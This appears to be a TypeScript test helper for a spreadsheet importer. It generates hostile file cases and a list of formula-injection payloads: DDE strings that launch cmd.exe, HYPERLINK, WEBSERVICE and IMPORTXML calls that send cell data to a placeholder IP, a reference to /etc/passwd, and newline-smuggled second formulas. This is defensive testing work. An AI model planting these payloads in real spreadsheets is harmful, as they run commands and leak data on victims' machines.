import type { Random } from '../lib/random';

/** What a hostile file has to come to. */
export type Expected =
  /** Refused with one of these codes. */
  | { readonly kind: 'refused'; readonly codes: readonly string[] }
  /** Read, and these are the texts of the first rows; a formula is its text. */
  | { readonly kind: 'read'; readonly rows: readonly (readonly string[])[] }
  /** Whichever: nothing of it may be what the file should not have reached. */
  | { readonly kind: 'either' };

export interface HostileFile {
  readonly fileName: string;
  readonly bytes: Uint8Array;
  readonly expected: Expected;
}

export interface Variant {
  readonly name: string;
  readonly make: (random: Random) => HostileFile;
}

export const tooLarge: Expected = { kind: 'refused', codes: ['workbook-too-large'] };
export const unreadable: Expected = { kind: 'refused', codes: ['workbook-unreadable'] };
export const refused: Expected = { kind: 'refused', codes: ['workbook-too-large', 'workbook-unreadable'] };
export const otherKind: Expected = { kind: 'refused', codes: ['not-this-kind'] };
export const either: Expected = { kind: 'either' };

/** Texts that a spreadsheet program would run, fetch or follow if a cell began with them. */
export function dangerousText(random: Random): string {
  const begin = random.pick(['=', '+', '-', '@', '\t=', '\r=', '=-', '@=', '+=', "='"]);
  const deed = random.pick([
    "cmd|' /C calc'!A0",
    `HYPERLINK("http://203.0.113.7/?x="&A1;"ашыңыз")`,
    'WEBSERVICE("http://203.0.113.7/")',
    'IMPORTXML("http://203.0.113.7/","//a")',
    'DDE("cmd";"/C calc";"x")',
    'SUM(1+1)',
    "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "'file:///etc/passwd'#$passwd.A1",
    '1+1\nекінші жол',
    '1+1\r\n=2+2',
    '1+1"; =2+2',
    '1+1;=2+2,=3+3',
  ]);
  return `${begin}${deed}${random.chance(0.3) ? ` ${random.below(1000)}` : ''}`;
}
